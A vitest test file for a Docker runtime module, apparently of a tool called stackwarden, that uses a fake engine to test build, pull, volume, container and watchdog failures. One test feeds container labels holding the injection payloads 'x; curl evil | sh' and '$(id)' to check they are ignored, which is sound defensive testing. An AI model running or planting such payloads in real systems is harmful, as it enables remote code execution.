/** Failures of an engine, from a fake engine on a socket. */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import type { ServerResponse } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { pinnedBinds } from "../../../src/runtimes/docker/container/pinned-binds.js";
import { prepareContainer } from "../../../src/runtimes/docker/container/prepare.js";
import { installPlan } from "../../../src/runtimes/docker/dependencies/plan.js";
import { findAddress } from "../../../src/runtimes/docker/engine/address.js";
import { checkEngine } from "../../../src/runtimes/docker/engine/check.js";
import { credentialsAt } from "../../../src/runtimes/docker/engine/credentials.js";
import { openEngine } from "../../../src/runtimes/docker/engine/engine.js";
import { sshArguments } from "../../../src/runtimes/docker/engine/ssh-socket.js";
import { type BuildOptions, buildImage } from "../../../src/runtimes/docker/image/build.js";
import { BuildKitProgress } from "../../../src/runtimes/docker/image/buildkit/progress.js";
import { encodeField } from "../../../src/runtimes/docker/image/buildkit/protobuf.js";
import { type EnsureOptions, ensureImage } from "../../../src/runtimes/docker/image/ensure.js";
import { type PullOptions, pull } from "../../../src/runtimes/docker/image/pull.js";
import { removeLabelled } from "../../../src/runtimes/docker/leftovers/remove.js";
import { findProgram, Watchdog } from "../../../src/runtimes/docker/leftovers/watchdog.js";
import { plainAddress } from "../../../src/runtimes/docker/leftovers/watchdog-program.js";
import { Instance } from "../../../src/runtimes/docker/service/instance.js";
import { composeWarning, containerOn } from "../../../src/runtimes/docker/stack/other-containers.js";
import {
  makeBindSources,
  ownBindSources,
  refuseReplacedSources,
} from "../../../src/runtimes/docker/volumes/bind-sources.js";
import { copyVolumes } from "../../../src/runtimes/docker/volumes/copy.js";
import { ensureVolumes } from "../../../src/runtimes/docker/volumes/ensure.js";
import { removeProject } from "../../../src/runtimes/docker/volumes/remove.js";
import { restoreVolumes } from "../../../src/runtimes/docker/volumes/restore.js";
import {
  type FakeAnswer,
  type FakeEngine,
  type FakeEngineOptions,
  startFakeEngine,
} from "../../support/docker/fake-engine.js";
import { serviceDefinition } from "../../support/service.js";
import { RecordingSink, until } from "../contract/bench.js";

let folder: string;
let fake: FakeEngine;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "stackwarden-docker-faults-"));
});
afterEach(async () => {
  await fake?.close();
  rmSync(folder, { recursive: true, force: true });
});

const start = async (options: FakeEngineOptions = {}): Promise<FakeEngine> => {
  fake = await startFakeEngine(join(folder, `${Math.random()}.sock`), options);
  return fake;
};
const fault = (status: number, message: string): FakeAnswer => ({ status, body: { message } });
const { signal } = new AbortController();
const retry = { maxRetries: 1, baseDelayMs: 1 };
const identity = { projectId: "shop", stateDir: "/state" };
/** Hides the machine's programs and credentials. */
const bare = (): NodeJS.ProcessEnv => ({ HOME: folder, DOCKER_CONFIG: folder, STACKWARDEN_PROGRAM_DIRS: folder });

describe("buildImage", () => {
  const messages: string[] = [];
  const build = (dockerfile: string, more: Partial<BuildOptions> = {}): Promise<string> => {
    mkdirSync(join(folder, "project"), { recursive: true });
    writeFileSync(join(folder, "project", "Dockerfile"), dockerfile);
    return buildImage({
      engine: fake.engine,
      build: { context: join(folder, "project"), args: {} },
      secrets: {},
      tag: "stackwarden/x:1",
      labels: {},
      service: "app",
      folder: join(folder, "project"),
      exclude: [],
      env: bare(),
      retry,
      signal,
      phase: (text) => messages.push(text),
      output: (text) => messages.push(text),
      retrying: (text) => messages.push(text),
      ...more,
    });
  };
  const PLAIN = "FROM scratch\n";
  const MOUNT = "FROM scratch\nRUN --mount=type=cache,target=/c true\n";

  it("a build that needs BuildKit is refused where the engine has none, and works on Podman", async () => {
    await start({ api: { version: "1.38" } });
    await expect(build(MOUNT)).rejects.toMatchObject({
      code: "UNSUPPORTED",
      message: expect.stringContaining("app: its build needs BuildKit, which Docker Engine at unix://"),
      hint: expect.stringContaining("without --mount"),
    });
    await expect(build(PLAIN, { secrets: { token: "x" } })).rejects.toMatchObject({
      message: expect.stringContaining("BuildKit (build.secrets)"),
      hint: expect.stringContaining("remove build.secrets"),
    });
    await fake.close();
    await start({ api: { podman: true } });
    fake.on("POST /build", { lines: [{ stream: "Step 1/2 : FROM scratch\n" }] });
    // The engine reports no id, so the name identifies the image.
    expect(await build(MOUNT)).toBe("stackwarden/x:1");
    await expect(build(PLAIN, { secrets: { token: "x" } })).rejects.toMatchObject({ code: "UNSUPPORTED" });
  });

  it("the classic builder is used when the engine refuses a BuildKit session", async () => {
    await start({ api: { version: "1.43" } });
    fake.on("POST /build", { lines: [{ stream: "a\n\nb" }, { aux: { ID: "sha256:1" } }] });
    const more = {
      build: { context: join(folder, "project"), args: {}, noCache: true, pull: true },
      platform: "linux/arm64",
    };
    expect(await build(PLAIN, more)).toBe("sha256:1");
    expect(fake.requests).toContain("POST /session");
    await expect(build(MOUNT)).rejects.toMatchObject({ code: "UNSUPPORTED" });
  });

  it("a cancelled build ends while the engine does not answer the request for a session", async () => {
    await start({ api: { version: "1.43" } });
    const cancel = new AbortController();
    fake.on("POST /session", () => cancel.abort(new Error("the start was cancelled")));
    await expect(build(MOUNT, { signal: cancel.signal })).rejects.toThrow("the start was cancelled");
  });

  it("a wrong base image, a busy registry and a lost engine have different errors", async () => {
    await start();
    fake.on("POST /build", { lines: [{ error: "pull access denied for x" }] });
    await expect(build(PLAIN)).rejects.toMatchObject({
      code: "SERVICE_START_FAILED",
      hint: expect.stringContaining("docker login"),
    });
    fake.on("POST /build", {
      lines: [...Array.from({ length: 80 }, (_, at) => ({ stream: `line ${at}\n` })), { error: "toomanyrequests" }],
    });
    await expect(build(PLAIN)).rejects.toMatchObject({ code: "RUNTIME_UNAVAILABLE" });
    expect(messages.some((text) => text.startsWith("Building app failed (attempt 1)"))).toBe(true);
    fake.on("POST /build", "cut");
    await expect(build(PLAIN)).rejects.toMatchObject({
      code: "RUNTIME_UNAVAILABLE",
      message: expect.stringContaining("does not answer"),
    });
    fake.on("GET /images/stackwarden/x:1/json", fault(500, "odd"));
    await expect(build(PLAIN)).rejects.toThrow("odd");
  });

  it("BuildKitProgress skips unknown fields and refuses invalid messages", () => {
    const lines: string[] = [];
    const progress = new BuildKitProgress((line) => lines.push(line));
    const vertex = (...fields: Buffer[]) =>
      encodeField(1, Buffer.concat([encodeField(1, "sha256:a"), encodeField(3, "[1/1] RUN x"), ...fields]));
    const [started, completed] = [encodeField(5, "t"), encodeField(6, "t")];
    // A number, eight bytes and four bytes beside the known fields.
    const others = Buffer.from([0x50, 0xac, 0x02, 0x59, 1, 2, 3, 4, 5, 6, 7, 8, 0x65, 1, 2, 3, 4]);
    progress.take(Buffer.concat([Buffer.from([0x08, 0x01]), vertex(others)]).toString("base64"));
    expect(lines).toEqual([]);
    const log = encodeField(
      3,
      Buffer.concat([encodeField(1, "sha256:a"), encodeField(4, `one\ntwo${"x".repeat(200)}`)]),
    );
    for (const message of [
      vertex(started),
      vertex(started),
      log,
      vertex(started, completed, encodeField(7, "exit 1")),
      vertex(started, completed),
    ])
      progress.take(message.toString("base64"));
    expect(lines).toEqual(["#1 [1/1] RUN x", "#1 one", `#1 two${"x".repeat(200)}`, "#1 ERROR: exit 1"]);
    for (const broken of [[0x0a, 0x05, 1], [0x0a], [0x0b, 0], Array(12).fill(0xff)])
      expect(() => progress.take(Buffer.from(broken).toString("base64"))).toThrow(RangeError);
  });
});

describe("images", () => {
  const phases: string[] = [];
  const pulling = (image: string, more: Partial<PullOptions> = {}) =>
    pull({
      engine: fake.engine,
      image,
      service: "app",
      env: bare(),
      retry: { maxRetries: 0, baseDelayMs: 1 },
      signal,
      phase: (text) => phases.push(text),
      retrying: () => undefined,
      ...more,
    });

  it("a failed pull reports its progress and tells a wrong name from an unavailable registry", async () => {
    await start();
    const layer = (detail: object) => ({ id: "l", status: "Downloading", progressDetail: detail });
    fake.on("POST /images/create", {
      lines: [layer({ current: 1, total: 3 << 20 }), layer({ total: 3 << 20 }), layer({}), { error: "no basic auth" }],
    });
    await expect(pulling("example.test/x@sha256:1", { platform: "linux/arm64" })).rejects.toMatchObject({
      code: "SERVICE_START_FAILED",
      hint: "Read the message, and correct what it names.",
    });
    expect(phases).toContain("pulling example.test/x@sha256:1: 0 of 3 MB");
    fake.on("POST /images/create", fault(404, "no such image"));
    await expect(pulling("x")).rejects.toMatchObject({ hint: expect.stringContaining("Correct the image's name") });
    fake.on("POST /images/create", "cut");
    await expect(pulling("x")).rejects.toMatchObject({
      code: "RUNTIME_UNAVAILABLE",
      message: expect.stringContaining("does not answer"),
    });
    fake.on("POST /images/create", { lines: [{ error: "connection reset by peer" }] });
    await expect(pulling("x")).rejects.toMatchObject({
      code: "RUNTIME_UNAVAILABLE",
      hint: expect.stringContaining("later"),
    });
  });

  it("an image of another platform is pulled, and an image that is missing after its pull is an error", async () => {
    await start();
    const notices: string[] = [];
    const ensure = (service: object, more: Partial<EnsureOptions> = {}) =>
      ensureImage({
        engine: fake.engine,
        identity,
        service: serviceDefinition({ name: "app", image: "x:1", ...service }),
        secrets: {},
        folder,
        exclude: [],
        renew: true,
        env: bare(),
        retry,
        signal,
        phase: () => undefined,
        output: () => undefined,
        notice: (_type, message) => notices.push(message),
        ...more,
      });
    const image = (Architecture: string) => ({
      body: {
        Id: `sha256:${Architecture}`,
        Os: "linux",
        Architecture,
        Metadata: { LastTagTime: new Date().toISOString() },
      },
    });
    fake.on("POST /images/create", { lines: [] });
    fake.on("GET /images/x:1/json", image("amd64"), image("amd64"), image("arm64"));
    expect(await ensure({ platform: "linux/arm64" })).toMatchObject({ id: "sha256:arm64" });
    expect(notices).toEqual(["app: pulling x:1."]);
    fake.on("GET /images/x:1/json", fault(404, "none"));
    await expect(ensure({})).rejects.toThrow("is missing after its pull");
    await expect(ensure({ pullPolicy: "never" })).rejects.toThrow("does not have the image");
    // An image of the engine's own platform is used; an old image is pulled again.
    fake.on("GET /images/x:1/json", image("amd64"));
    expect(await ensure({ platform: "linux/amd64", pullPolicy: "weekly" })).toMatchObject({ id: "sha256:amd64" });
    expect(await ensure({ pullPolicy: "always" })).toMatchObject({ id: "sha256:amd64" });
    fake.on("GET /images/x:1/json", "cut");
    await expect(ensure({})).rejects.toMatchObject({ code: "RUNTIME_UNAVAILABLE" });
    fake.on("GET /images/x:1/json", fault(400, "invalid"));
    await expect(ensure({})).rejects.toMatchObject({ message: 'The image "x:1" of app is not usable.' });
    await expect(ensure({ image: undefined })).rejects.toMatchObject({ code: "INVALID_STACK" });
  });
});

describe("volumes and leftovers", () => {
  const mounts = [{ type: "volume" as const, source: "data", target: "/data/", readOnly: false }];
  const request = () => ({ ...identity, volumes: ["data"], signal, maxBytes: 1 });

  it("a volume that cannot be inspected is not changed", async () => {
    await start();
    const { docker } = fake.engine;
    fake.on("GET /volumes/*", fault(500, "disk broken"));
    await expect(ensureVolumes(docker, identity, { name: "app", mounts }, { volumes: ["/"] })).rejects.toThrow(
      "disk broken",
    );
    await expect(copyVolumes(docker, request(), folder)).rejects.toThrow("disk broken");
    fake.on("GET /containers/json", { body: [] });
    fake.on("GET /networks", { body: [] });
    fake.on("DELETE /volumes/*", fault(500, "disk broken"));
    await expect(restoreVolumes(fake.engine, request(), folder)).rejects.toThrow("disk broken");
    expect(fake.requests.filter((one) => one.startsWith("POST"))).toEqual([]);
    fake.on("GET /volumes/*", { body: { Name: "v" } });
    fake.on("GET /images/stackwarden/empty:latest/json", fault(500, "disk broken"));
    await expect(copyVolumes(docker, request(), folder)).rejects.toThrow("disk broken");
  });

  it("a container that cannot be removed is reported after everything else is removed", async () => {
    await start();
    const { docker } = fake.engine;
    fake.on("GET /containers/json", { body: [{ Id: "a" }, { Id: "b", Labels: null }] });
    fake.on("GET /networks", { body: [{ Id: "n" }] });
    fake.on("DELETE /containers/a", fault(500, "busy"));
    fake.on("DELETE /containers/b", { status: 204 });
    fake.on("DELETE /networks/n", { status: 204 });
    await expect(removeLabelled(docker, { some: "label" })).rejects.toThrow("busy");
    expect(fake.requests).toEqual(expect.arrayContaining(["DELETE /containers/b", "DELETE /networks/n"]));
    fake.on("GET /containers/json", { body: [] });
    fake.on("GET /networks", { body: [] });
    fake.on("GET /volumes", { body: { Volumes: null } });
    fake.on("GET /images/json", { body: [{ Id: "sha256:in-use" }] });
    fake.on("DELETE /images/sha256:in-use", fault(409, "in use"));
    await removeProject(docker, identity);
  });

  it("containers of other programs are named, and labels with invalid names are ignored", async () => {
    await start();
    const { docker } = fake.engine;
    const Ports = [{ PublicPort: 80, Type: "tcp" }];
    fake.on("GET /containers/json", {
      body: [
        { Id: "0".repeat(64), Names: [], Ports: null },
        { Id: "1".repeat(64), Names: [], Ports, Labels: null },
      ],
    });
    expect(await containerOn(docker, 80, "tcp")).toEqual({ pid: null, program: null, container: "111111111111" });
    expect(await containerOn(docker, 80, "udp")).toBeNull();
    expect(await composeWarning(docker, "/project")).toBeNull();
    const Labels = { "com.docker.compose.project": "shop", "io.github.stackwarden.project": "mine" };
    fake.on("GET /containers/json", {
      body: [
        { Id: "2", Names: ["/x"], Ports, Labels },
        { Id: "3", Names: ["/y"], Labels },
      ],
    });
    expect(await containerOn(docker, 80, "tcp")).toMatchObject({ project: "mine", service: "unknown" });
    expect(await composeWarning(docker, "/project")).toContain("runs 2 containers of this folder (project shop)");
    // Any image can declare labels, and the name becomes part of a command in the hint.
    const hostile = { "com.docker.compose.project": "x; curl evil | sh", "io.github.stackwarden.project": "$(id)" };
    fake.on("GET /containers/json", { body: [{ Id: "4", Names: ["/z"], Ports, Labels: hostile }] });
    expect(await containerOn(docker, 80, "tcp")).toEqual({ pid: null, program: null, container: "z" });
    expect(await composeWarning(docker, "/project")).toBeNull();
    fake.on("GET /containers/json", fault(500, "odd"));
    expect(await containerOn(docker, 80, "tcp")).toBeNull();
    expect(await composeWarning(docker, "/project")).toBeNull();
  });
});

describe("containers", () => {
  const prepare = (more: object = {}) =>
    prepareContainer({
      engine: fake.engine,
      identity: { projectId: "shop", stateDir: folder },
      definition: { services: {}, secrets: {}, configs: {} },
      folder,
      pending: new Set(),
      service: serviceDefinition({ name: "app", image: "x", user: "7:8", ...more }),
      image: { id: "sha256:1", name: "x", volumes: [], environment: {}, user: "", built: false },
      generation: 1,
      limits: {},
      networks: [],
      ports: [],
      kind: "1",
      env: bare(),
      hostPort: () => undefined,
      dependencies: async () => ({ volumes: [], environment: {} }),
    } as never);

  it("a container that cannot be created is removed, and the error states the reason", async () => {
    await start();
    for (const [message, matching] of [
      [
        "invalid mount config: bind source path does not exist: /x",
        { hint: expect.stringContaining("virtual machine") },
      ],
      ["driver failed: port is already allocated", expect.objectContaining({ statusCode: 500 })],
      ["no command specified", { hint: "Add services.app.command." }],
      [
        "cannot access path /var/lib/docker/volumes/v/_data/a b/c: lstat /var/lib/docker/volumes/v/_data/a b/c: no such file or directory",
        { message: "app: a volume has no folder a b/c (subpath).", hint: expect.stringContaining("whole volume") },
      ],
      ["odd", { message: "app: creating its container failed: odd" }],
    ] as const) {
      fake.on("POST /containers/create", fault(500, message));
      await expect(prepare()).rejects.toMatchObject(matching);
    }
    fake.on("POST /containers/create", { body: { Id: "c" } });
    fake.on("GET /containers/c/archive", fault(500, "archive broken"));
    fake.on("DELETE /containers/c", { status: 204 });
    const secrets = { secrets: [{ source: "unknown", target: "t" }], workingDir: "/srv" };
    expect(await prepare(secrets)).toMatchObject({ id: "c", uid: 7 });
    await expect(prepare({ user: "name" })).rejects.toThrow("archive broken");
    expect(fake.requests.at(-1)).toBe("DELETE /containers/c");
  });

  const watch = (more: object = {}) =>
    ({
      over: new AbortController(),
      recovered: async () => false,
      oomKills: () => 0,
      forget: () => undefined,
      ...more,
    }) as never;
  const instance = (more: object = {}) =>
    new Instance({
      service: "app",
      docker: fake.engine.docker,
      container: "c",
      tty: false,
      podman: true,
      sink: new RecordingSink(),
      watch: watch(),
      release: async () => undefined,
      ...more,
    });
  const state = (fields: object) => ({
    body: { State: { Running: false, Paused: false, ExitCode: 1, OOMKilled: false, FinishedAt: "", ...fields } },
  });

  it("a container on Podman with a missing program has exit code 127, and is resumed before a kill", async () => {
    await start();
    fake.on("POST /containers/c/wait", { body: { StatusCode: 1 } });
    fake.on("GET /containers/c/json", state({}));
    const frame =
      (text: string): FakeAnswer =>
      (_request, response) => {
        const header = Buffer.alloc(8);
        header[0] = 2;
        header.writeUInt32BE(text.length, 4);
        response.end(Buffer.concat([header, Buffer.from(text)]));
      };
    fake.on("GET /containers/c/logs", frame("ERROR (catatonit:2): failed to exec pid1: No such file"));
    expect((await instance().exited).exitCode).toBe(127);
    fake.on("GET /containers/c/logs", frame("just an error"));
    expect((await instance().exited).exitCode).toBe(1);
    let waiting: ServerResponse | undefined;
    fake.on("POST /containers/c/wait", (_request, response) => {
      waiting = response;
    });
    fake.on("POST /containers/c/unpause", fault(500, "not paused"));
    fake.on("POST /containers/c/kill", fault(500, "odd"), (_request, response) => {
      response.end();
      waiting?.end('{"StatusCode":137}');
    });
    const running = instance({ watch: watch({ oomKills: () => 1 }) });
    // The signal is not delivered, but the kill is.
    expect(await running.stop(50, "SIGTERM")).toMatchObject({ exitCode: 1 });
    expect(fake.requests.filter((one) => one.endsWith("/unpause"))).toHaveLength(1);
    expect(await running.stop(50, "SIGTERM")).toMatchObject({ exitCode: 1 });
  });

  it("a container that a kill does not end fails the stop with the engine's reason, and the next stop tries again", async () => {
    await start();
    let waiting: ServerResponse | undefined;
    fake.on("POST /containers/c/wait", (_request, response) => {
      waiting = response;
    });
    fake.on("GET /containers/c/json", state({ Running: true }));
    fake.on("POST /containers/c/kill", fault(500, "cannot kill container: tried to kill it, but it did not die"));
    const running = instance({ podman: false, killMs: 50 });
    await expect(running.stop(0, "SIGTERM")).rejects.toMatchObject({
      code: "STOP_FAILED",
      message: "app did not end although it was killed: cannot kill container: tried to kill it, but it did not die.",
    });
    fake.on("GET /containers/c/json", state({ ExitCode: 137 }));
    fake.on("POST /containers/c/kill", (_request, response) => {
      response.end();
      waiting?.end('{"StatusCode":137}');
    });
    // On a busy machine the end is seen after the short limit of this instance.
    const next = running.stop(0, "SIGTERM").catch(() => running.exited);
    expect(await next).toMatchObject({ signal: "SIGKILL" });
  });

  it("an OOM kill by the kernel is reported, and a container that is gone has ended", async () => {
    await start();
    fake.on("POST /containers/c/wait", { body: { StatusCode: 137 } });
    fake.on("GET /containers/c/json", state({ ExitCode: 137, FinishedAt: "2026-11-29T10:00:00Z" }));
    expect(await instance({ watch: watch({ oomKills: () => 1 }) }).exited).toMatchObject({
      oomKilled: true,
      at: Date.parse("2026-11-29T10:00:00Z"),
    });
    fake.on("POST /containers/c/wait", fault(404, "gone"));
    expect((await instance().exited).exitCode).toBeNull();
    fake.on("POST /containers/c/wait", { body: { StatusCode: 3 } });
    fake.on("GET /containers/c/json", "cut");
    expect((await instance().exited).exitCode).toBeNull();
  });
});

describe("installPlan", () => {
  it("a plan uses the lock file and npm's settings, which stay outside of the volume", async () => {
    writeFileSync(join(folder, "package.json"), '{"name":"x","version":"1.0.0","dependencies":{"ms":"2.1.3"}}');
    writeFileSync(join(folder, "package-lock.json"), JSON.stringify({ lockfileVersion: 3, packages: {} }));
    writeFileSync(join(folder, ".npmrc"), "registry=https://npm.example\n");
    const options = { service: "app", folder, exclude: [] };
    const plan = await installPlan(options, { kind: "node", manifest: join(folder, "package.json") });
    expect(plan?.command.slice(0, 2)).toEqual(["npm", "ci"]);
    expect(plan?.environment).toEqual({ npm_config_userconfig: "/.stackwarden/npmrc" });
    expect(plan?.files.at(-1)).toMatchObject({ path: "/.stackwarden/npmrc", mode: 0o400 });
    writeFileSync(join(folder, "requirements.txt"), "six\n");
    const python = await installPlan(options, { kind: "python", manifest: join(folder, "requirements.txt") });
    expect(python?.service.environment("").PATH).toBe(
      "/.stackwarden/deps/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    );
  });
});

describe("binds of the project", () => {
  const bind = (path: string, target: string, more: object = {}) => ({
    type: "bind" as const,
    source: join(folder, path),
    target,
    readOnly: false,
    ...more,
  });
  const services = (...mounts: ReturnType<typeof bind>[][]) =>
    Object.fromEntries(mounts.map((list, at) => [`s${at}`, serviceDefinition({ name: `s${at}`, mounts: list })]));

  it("a bind inside of a writable bind is a mount point unless another mount hides it", () => {
    const outer = bind(".", "/app");
    const definition = { services: services([outer], [bind("a/b", "/b"), bind("a/b/c", "/c")], [bind("d", "/d")]) };
    const pinned = (taken: string[], exists = (_source: string) => true) =>
      pinnedBinds([outer], definition, taken, exists).map(({ target }) => target);
    expect(pinned(["/app"])).toEqual(["/app/a", "/app/a/b", "/app/a/b/c", "/app/d"]);
    expect(pinned(["/app/a/b"])).toEqual(["/app/a", "/app/d"]);
    expect(pinned([], (source) => !source.endsWith("/b"))).toEqual(["/app/a", "/app/d"]);
    expect(pinnedBinds([bind(".", "/app", { readOnly: true })], definition, [], () => true)).toEqual([]);
    const root = { ...outer, source: "/" };
    expect(pinnedBinds([root], { services: services([{ ...outer, source: "/x" }]) }, [], () => true)).toEqual([
      { source: "/x", target: "/app/x" },
    ]);
  });

  it("a missing bind source is created before a service could replace it with a link", () => {
    const [outer, inner] = [bind(".", "/app"), bind("data/deep", "/data")];
    const definition = { services: services([outer], [inner], [bind("kept", "/k", { createHostPath: false })]) };
    const pending = new Set<string>();
    const make = (...mounts: ReturnType<typeof bind>[]) =>
      makeBindSources({ service: { name: "app", mounts }, definition, folder, pending });
    expect(make(outer)).toEqual([]);
    expect([...pending]).toEqual([inner.source]);
    expect(make(inner)).toEqual([inner.source]);
    expect(make(inner)).toEqual([]);
    expect(make(bind("other", "/o"))).toEqual([join(folder, "other")]);
    expect(() => make(bind("kept", "/k", { createHostPath: false }))).toThrow("nothing exists at");
    expect(() => make(bind("outside", "/x", { outside: true }))).toThrow("nothing exists at");
    expect(ownBindSources([join(folder, "other")], folder, null)[0]).toContain("other did not exist");
    symlinkSync("/etc", join(folder, "link"));
    expect(() => refuseReplacedSources({ service: { name: "app", mounts: [bind("link", "/l")] }, definition })).toThrow(
      "was replaced by a link",
    );
  });
});

describe("the watchdog of a server", () => {
  const warnings: string[] = [];
  const watchdog = (program: string | null) => {
    warnings.length = 0;
    return new Watchdog({ env: process.env, warn: (message) => warnings.push(message) }, program);
  };
  const address = { host: "unix:///nowhere.sock", source: "test" };

  it("a missing watchdog program is reported once", async () => {
    expect(findProgram("/")).toBeNull();
    const missing = watchdog(null);
    missing.watch(address);
    missing.watch(address);
    expect(missing.pid).toBeNull();
    expect(warnings).toEqual([expect.stringContaining("program is missing")]);
    await missing.close();
  });

  it("a watchdog that ends is restarted, after a pause if it ran briefly, and never after close", async () => {
    const program = join(folder, "watchdog.mjs");
    const marker = join(folder, "marker");
    // The first process ends at once, the next ones when their input ends.
    writeFileSync(
      program,
      `import { existsSync, writeFileSync } from "node:fs";
if (!existsSync(${JSON.stringify(marker)})) { writeFileSync(${JSON.stringify(marker)}, ""); process.exit(0); }
process.stdin.resume().on("end", () => process.exit(0));`,
    );
    const started = watchdog(program);
    started.watch(address);
    const first = started.pid;
    await until("the first process ended", () => warnings.length === 1);
    await until("it runs again", () => started.pid !== null && started.pid !== first);
    started.removeAtEnd("/secrets");
    // Long enough that the end does not count as a failed start.
    await new Promise((resolve) => setTimeout(resolve, 1200));
    const second = started.pid as number;
    process.kill(second, "SIGKILL");
    await until("the third process", () => started.pid !== second);
    await started.close();
    await started.close();
    expect(warnings).toHaveLength(2);

    rmSync(marker);
    const closing = watchdog(program);
    closing.watch(address);
    await until("it ended", () => warnings.length === 1);
    await closing.close();
    const last = closing.pid;
    await new Promise((resolve) => setTimeout(resolve, 1200));
    expect(closing.pid).toBe(last);
  });
});

describe("the address of an engine", () => {
  it("an address gets its default port and certificates, and fails without a listener or ssh", async () => {
    const open = (host: string, more: object = {}) => openEngine({ host, source: "test", ...more }, bare(), signal);
    await expect(open("tcp://127.0.0.1:1")).rejects.toThrow("does not answer: ECONNREFUSED");
    // An address for documentation, with the default ports 2375 and 2376.
    for (const tls of [undefined, { skipVerify: true }])
      await expect(
        openEngine(
          { host: "tcp://192.0.2.77", source: "test", ...(tls === undefined ? {} : { tls }) },
          bare(),
          AbortSignal.timeout(300),
        ),
      ).rejects.toThrow();
    await expect(open("ssh://build.example")).rejects.toThrow("needs the program ssh, which is missing");
    expect(sshArguments("ssh://build.example").slice(4)).toEqual([
      "-T",
      "--",
      "build.example",
      "docker",
      "system",
      "dial-stdio",
    ]);
    expect(plainAddress({ host: "x", source: "y", tls: { skipVerify: true } })).toEqual({
      host: "x",
      source: "y",
      tls: { skipVerify: true },
    });
    const { tls: _none, ...plain } = { host: "x", source: "y", tls: undefined };
    expect(plainAddress(plain)).toEqual(plain);
    const folderOf = (name: string) => join(folder, name);
    for (const [name, files] of [
      ["ca", ["ca.pem"]],
      ["cert", ["cert.pem", "key.pem"]],
    ] as const) {
      mkdirSync(folderOf(name));
      for (const file of files) writeFileSync(join(folderOf(name), file), file);
      const env = { DOCKER_HOST: "tcp://x:1", DOCKER_TLS_VERIFY: "1", DOCKER_CERT_PATH: folderOf(name) };
      expect(Object.keys(findAddress({ settings: {}, env, home: folder }).tls ?? {}).sort()).toEqual(
        [...files.map((file) => file.replace(".pem", "")), "skipVerify"].sort(),
      );
    }
    const bareHome = { DOCKER_HOST: "tcp://x:1", DOCKER_TLS_VERIFY: "1" };
    expect(findAddress({ settings: {}, env: bareHome, home: folder })).toEqual({
      host: "tcp://x:1",
      source: "DOCKER_HOST",
    });
    writeFileSync(join(folder, "config.json"), "{}");
    expect(await credentialsAt("", bare())).toBeNull();
    await start({ info: { SecurityOptions: ["name=rootless", "name=seccomp"] }, api: { version: "2.0" } });
    expect(fake.engine.info).toMatchObject({ rootless: true, buildKit: "default" });
    const { findings } = await checkEngine({ settings: { host: fake.engine.address.host, retry }, env: bare() });
    expect(findings[0]?.message).toContain(", rootless");
  });
});
